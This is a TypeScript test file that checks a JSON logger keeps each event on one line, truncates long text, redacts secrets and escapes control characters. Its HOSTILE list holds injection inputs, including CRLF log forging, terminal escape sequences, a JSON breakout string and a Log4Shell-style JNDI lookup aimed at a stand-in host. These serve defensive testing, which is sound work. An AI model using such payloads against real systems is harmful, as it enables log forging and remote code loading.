// One line per event, whatever a client sent (SEC-B16.1): no second line, no control sequence, nothing without bound.

import { describe, expect, it } from 'vitest';
import { Secret } from '../../src/kernel/secret.ts';
import { createLog, safeText } from '../../src/observe/log.ts';

function record(level: Parameters<typeof createLog>[0] = 'debug') {
  const lines: string[] = [];
  return { log: createLog(level, { write: (line: string) => void lines.push(line) }), lines };
}

function one(fields: Record<string, unknown>): { line: string; parsed: Record<string, unknown> } {
  const { log, lines } = record();
  log.info('noun.verb', fields);
  expect(lines).toHaveLength(1);
  const line = lines[0] ?? '';
  return { line, parsed: JSON.parse(line) as Record<string, unknown> };
}

const HOSTILE = [
  ['a second line', 'bob\r\n2026 INFO admin ok'],
  ['a control sequence', '\u001b[2J'],
  ['a line separator', 'a\u2028b\u2029c'],
  ['C1 controls', 'a\u009b31mb\u0085c'],
  ['NUL and DEL', 'a\u0000b\u007fc'],
  ['a look-up', '$\u007bjndi:ldap://evil.test/a}'],
  ['the end of the JSON', '","level":"error","x":"'],
  ['half a surrogate pair', '\ud83d'],
] as const;

describe('a log line', () => {
  for (const [name, text] of HOSTILE) {
    it(`SEC-B16.1 stays one line of plain text with ${name}, wherever it stands`, () => {
      for (const fields of [
        { login: text },
        { list: ['x', text] },
        { object: { deep: text } },
        { object: { [text]: 1 } },
        { error: new Error(text) },
        { error: new Error('x', { cause: new Error(text) }) },
      ]) {
        const { line, parsed } = one(fields);
        expect(line.trimEnd()).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
        expect(line.endsWith('\n')).toBe(true);
        expect(parsed).toMatchObject({ level: 'info', event: 'noun.verb' });
      }
    });
  }

  it('SEC-B16.1 is cut at 256 characters for each text, also of 1 MB', () => {
    const text = 'x'.repeat(1024 * 1024);
    expect(one({ ua: text }).parsed['ua']).toBe(`${'x'.repeat(256)}...`);
    expect(one({ list: Array(5000).fill(text) }).line.length).toBeLessThan(100 * 300);
    expect(one({ object: Object.fromEntries(Array.from({ length: 500 }, (_, index) => [`key${index}`, text])) }).line.length).toBeLessThan(
      100 * 300,
    );
    expect(one({ error: new Error(text) }).line.length).toBeLessThan(500);
  });

  it('keeps numbers, truth values and short texts as they are', () => {
    expect(one({ status: 200, ok: true, none: null, text: 'x' }).parsed).toMatchObject({ status: 200, ok: true, none: null, text: 'x' });
    expect(one({ gone: undefined }).parsed).not.toHaveProperty('gone');
  });

  it('SEC-D10.3 never holds a secret, at any depth', () => {
    const secret = new Secret('canary-secret');
    for (const fields of [{ secret }, { list: [secret] }, { object: { secret } }, { object: { deeper: { secret } } }])
      expect(one(fields).line).not.toContain('canary');
  });

  it('has an error as name and message, with its causes and without a stack', () => {
    const error = new TypeError('outer', { cause: new Error('inner', { cause: 'a text' }) });
    expect(one({ error }).parsed['error']).toBe('TypeError: outer <- Error: inner');
    expect(one({ error }).line).not.toContain('test/observe');
  });

  it('comes to an end with an error that is its own cause', () => {
    const error = new Error('round');
    error.cause = error;
    expect(one({ error }).parsed['error']).toMatch(/^Error: round( <- Error: round){5}$/);
  });

  it('has the time as UTC in milliseconds, and neither host name nor process id (SEC-D11)', () => {
    const { parsed } = one({});
    expect(parsed['ts']).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    expect(Object.keys(parsed).sort()).toEqual(['event', 'level', 'ts']);
  });

  it('is not written below the level', () => {
    for (const [level, expected] of [
      ['debug', 4],
      ['info', 3],
      ['warn', 2],
      ['error', 1],
      ['silent', 0],
    ] as const) {
      const { log, lines } = record(level);
      for (const severity of ['debug', 'info', 'warn', 'error'] as const) log[severity]('x');
      expect(lines).toHaveLength(expected);
    }
  });
});

describe('safeText', () => {
  it('shows what it escapes', () => {
    expect(safeText('a\nb\u2028c')).toBe('a\\u000ab\\u2028c');
    expect(safeText('plain M\u00fcller \ud83d\ude00')).toBe('plain M\u00fcller \ud83d\ude00');
  });
});
